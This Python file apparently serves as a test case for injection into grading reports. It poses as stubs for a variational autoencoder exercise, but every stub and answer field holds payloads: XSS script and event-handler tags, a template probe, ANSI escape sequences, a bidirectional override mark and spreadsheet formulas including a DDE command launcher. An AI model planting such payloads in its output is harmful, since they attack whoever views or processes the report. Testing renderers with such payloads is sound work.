# class: injection into reports
# attack: HTML, CSV formulas, ANSI sequences, backticks and bidirectional marks in messages, names, reprs and docstrings
# noticed: XSS

# %%
class Markup:
    text = "</td></table><script>alert('XSS')</script><img src=x onerror=alert(1)>`</code>`{{ 7 * 7 }}\x1b[2J\x1b]0;pwned\x07\u202e=cmd|' /C calc'!A0\n\0"
    Error = type("<script>alert('XSS')</script>", (Exception,), {"__doc__": text, "__module__": text})
    Value = type("<b onclick=alert(1)>XSS", (), {"__repr__": lambda self: Markup.text, "__doc__": text})


def gaussian_kl(mu, logvar):
    """</title><script>alert('XSS')</script>"""
    raise Markup.Error(Markup.text)


def bernoulli_nll(logits, x):
    return Markup.Value()


def negative_elbo(logits, x, mu, logvar, beta=1.0):
    raise NotImplementedError("TODO <script>alert('XSS')</script>")


def train_step(model, x, optimizer, beta=1.0):
    raise NotImplementedError("WITHHELD gaussian_kl</code><script>alert('XSS')</script>")


def traverse(model, z, dim, values):
    open("/<script>alert('XSS')</script>,=1+1")


VAE = Markup.Value()
answer_kl_sign = "=HYPERLINK(1)"
answer_logvar = Markup.Value()
answer_holes = "<svg/onload=alert('XSS')>"
